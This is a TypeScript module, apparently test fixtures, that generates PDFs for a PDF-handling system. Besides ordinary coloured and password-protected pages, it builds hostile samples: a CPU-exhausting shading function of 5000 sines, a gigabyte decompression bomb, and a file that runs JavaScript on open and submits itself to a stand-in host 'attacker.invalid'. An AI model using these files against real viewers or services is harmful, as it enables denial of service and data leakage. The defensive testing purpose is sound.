import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';

type Size = readonly [width: number, height: number];
type Page = { size?: Size; color?: string };
type Made = { pages?: Page[]; password?: string };

const A4: Size = [595, 842];

/** A PDF with a page for each color, letters on each; with `password` it opens with that alone. */
export async function makePdf({ pages = [{}], password }: Made = {}): Promise<Buffer> {
  const document = new PDFDocument({ autoFirstPage: false, ...(password && { userPassword: password }) });
  const chunks: Buffer[] = [];
  document.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => document.on('end', resolve));
  for (const [index, { size = A4, color = '#336699' }] of pages.entries()) {
    const [width, height] = size;
    document.addPage({ size: [width, height], margin: 0 });
    document.rect(0, 0, width, height / 2).fill(color);
    if (Math.min(width, height) > 200) document.fontSize(24).text(`Page ${index + 1}`, 40, height * 0.75);
  }
  document.end();
  await ended;
  return Buffer.concat(chunks);
}

type PdfObject = string | { dictionary: string; stream: Buffer };

/** A PDF of objects that are written as they are, numbered from 1; the first one is the catalog. Streams are packed. */
export function writePdf(objects: readonly PdfObject[]): Buffer {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let length = 0;
  const add = (bytes: Buffer) => {
    parts.push(bytes);
    length += bytes.length;
  };
  add(Buffer.from('%PDF-1.7\n'));
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    if (typeof object === 'string') {
      add(Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`));
      continue;
    }
    const packed = deflateSync(object.stream);
    add(
      Buffer.from(
        `${index + 1} 0 obj\n<< ${object.dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      ),
    );
    add(packed);
    add(Buffer.from('\nendstream\nendobj\n'));
  }
  const start = length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  const size = objects.length + 1;
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}`));
  add(Buffer.from(`trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (resources: string) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 600] /Resources << ${resources} >> /Contents 4 0 R >>`;

/** A small PDF whose one page has a color for each of its points, which takes thousands of sines. */
export function makeEndlessPdf(): Buffer {
  const shading = '<< /ShadingType 1 /ColorSpace /DeviceGray /Matrix [600 0 0 600 0 0] /Function 5 0 R >>';
  const sines = {
    dictionary: '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]',
    stream: Buffer.from(`{ pop ${'sin '.repeat(5000)}}`),
  };
  return writePdf([
    CATALOG,
    PAGES,
    page(`/Shading << /S ${shading} >>`),
    { dictionary: '', stream: Buffer.from('/S sh') },
    sines,
  ]);
}

/** A small PDF whose one page is a gigabyte of drawing, once it is unpacked. */
export function makePdfBomb(): Buffer {
  const content = { dictionary: '', stream: Buffer.alloc(64 * 1024 ** 2, 'q ') };
  const contents = `[${'4 0 R '.repeat(16)}]`;
  return writePdf([CATALOG, PAGES, page('').replace('4 0 R', contents), content]);
}

/** A PDF that runs a script when it is opened, sends itself away and has a page within it. */
export function makeScriptedPdf(): Buffer {
  const catalog = `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("hello"\\);) >>
    /AA << /WC << /S /SubmitForm /F (https://attacker.invalid/) >> >> >>`;
  return writePdf([catalog, PAGES, page(''), { dictionary: '', stream: Buffer.from('1 0 0 rg 0 0 600 600 re f') }]);
}
